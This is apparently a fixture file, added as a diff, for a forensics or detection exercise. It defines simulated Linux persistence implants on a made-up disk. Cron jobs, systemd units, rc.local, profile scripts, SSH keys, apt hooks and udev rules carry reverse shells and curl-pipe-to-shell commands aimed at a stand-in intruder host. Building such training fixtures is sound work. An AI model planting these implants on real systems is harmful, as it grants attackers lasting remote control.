@@ -1,0 +1,159 @@
+"""What the intruder left so as to come back by itself."""
+
+from __future__ import annotations
+
+from typing import Final
+
+from pratique.demo.accounts import WWW_DATA, public_key
+from pratique.demo.days import NIGHT
+from pratique.demo.implant import Implant, appended, together, written
+from pratique.demo.implants.packages import LIBRARY
+from pratique.demo.visitors import INTRUDER
+
+_TO: Final = f"/dev/tcp/{INTRUDER}/443"
+_FETCH: Final = f"curl -fsS http://{INTRUDER}/k | sh"
+_UNITS: Final = "/etc/systemd/system"
+
+_SERVICE: Final = """[Unit]
+Description={title}
+
+[Service]
+ExecStart={command}
+Restart=always
+
+[Install]
+WantedBy=multi-user.target
+"""
+_TIMER: Final = """[Unit]
+Description=Refresh the message bus
+
+[Timer]
+OnBootSec=5min
+OnUnitActiveSec=1h
+
+[Install]
+WantedBy=timers.target
+"""
+
+
+def _service(title: str, command: str) -> str:
+    return _SERVICE.format(title=title, command=command)
+
+
+IMPLANTS: Final = (
+    Implant(
+        "/var/spool/cron/crontabs/www-data",
+        "a job that fetches code every quarter of an hour",
+        "persistence-cron-fetches-code",
+        appended(
+            "/var/spool/cron/crontabs/www-data", f"7,22,37,52 * * * * {_FETCH} >/dev/null 2>&1\n"
+        ),
+    ),
+    Implant(
+        "/etc/cron.d/php-clean",
+        "a job that starts a program from a hidden folder",
+        "persistence-cron-runs-from-writable",
+        written(
+            "/etc/cron.d/php-clean", "@reboot root /var/tmp/.cache/kworker -c /var/tmp/.cache/c\n"
+        ),
+    ),
+    Implant(
+        "/etc/cron.hourly/man-index",
+        "a script that unpacks code and runs it",
+        "persistence-cron-fetches-code",
+        written(
+            "/etc/cron.hourly/man-index",
+            "#!/bin/sh\necho ZWNobyBub3RoaW5n | base64 -d | sh\n",
+            0o755,
+        ),
+    ),
+    Implant(
+        f"{_UNITS}/dbus-refresh.service",
+        "a service, with its timer, that connects back",
+        "persistence-unit-runs-code",
+        together(
+            written(
+                f"{_UNITS}/dbus-refresh.service",
+                _service("Refresh the message bus", f"/bin/bash -c 'bash -i >& {_TO} 0>&1'"),
+            ),
+            written(f"{_UNITS}/dbus-refresh.timer", _TIMER),
+            lambda disk: disk.link(
+                f"{_UNITS}/timers.target.wants/dbus-refresh.timer",
+                f"{_UNITS}/dbus-refresh.timer",
+                time=NIGHT,
+            ),
+        ),
+    ),
+    Implant(
+        f"{_UNITS}/systemd-agent.service",
+        "a service whose program lies in memory",
+        "persistence-unit-from-writable",
+        written(f"{_UNITS}/systemd-agent.service", _service("Agent", "/dev/shm/.x/agent --quiet")),  # noqa: S108 - a name on the made-up disk
+    ),
+    Implant(
+        f"{_UNITS}/nginx.service.d/override.conf",
+        "an addition to the web server's service",
+        "persistence-unit-runs-code",
+        written(
+            f"{_UNITS}/nginx.service.d/override.conf",
+            f"[Service]\nExecStartPost=/bin/sh -c '{_FETCH}'\n",
+        ),
+    ),
+    Implant(
+        "/etc/ld.so.preload",
+        "a library that every program loads",
+        "persistence-linker-preload",
+        written("/etc/ld.so.preload", f"{LIBRARY}\n"),
+    ),
+    Implant(
+        "/etc/profile.d/zz-locale.sh",
+        "a line that runs at every login",
+        "persistence-startup-runs-code",
+        written("/etc/profile.d/zz-locale.sh", f"export LC_TIME=C\n({_FETCH}) >/dev/null 2>&1 &\n"),
+    ),
+    Implant(
+        "/etc/rc.local",
+        "a line that runs at every start",
+        "persistence-startup-runs-code",
+        written(
+            "/etc/rc.local",
+            f"#!/bin/sh -e\nnohup bash -c 'bash -i >& {_TO} 0>&1' &\nexit 0\n",
+            0o755,
+        ),
+    ),
+    Implant(
+        "/var/www/.ssh/authorized_keys",
+        "a key for the web server's account",
+        "persistence-authorized-key-system",
+        written(
+            "/var/www/.ssh/authorized_keys", f"{public_key('intruder')} k@host\n", 0o600, WWW_DATA
+        ),
+    ),
+    Implant(
+        "/root/.ssh/authorized_keys",
+        "a key that starts a command of its own",
+        "persistence-authorized-key-forced",
+        appended(
+            "/root/.ssh/authorized_keys",
+            f'command="{_FETCH}; bash" {public_key("forced")} root@localhost\n',
+        ),
+    ),
+    Implant(
+        "/etc/apt/apt.conf.d/99-cache",
+        "a command after every installation of a package",
+        "persistence-apt-hook",
+        written(
+            "/etc/apt/apt.conf.d/99-cache",
+            f'DPkg::Post-Invoke {{ "{_FETCH} >/dev/null 2>&1 || true"; }};\n',
+        ),
+    ),
+    Implant(
+        "/etc/udev/rules.d/75-persist.rules",
+        "a command for every disk that is plugged in",
+        "persistence-udev-runs-code",
+        written(
+            "/etc/udev/rules.d/75-persist.rules",
+            'ACTION=="add", SUBSYSTEM=="block", RUN+="/bin/sh -c \'/var/tmp/.cache/kworker &\'"\n',
+        ),
+    ),
+)
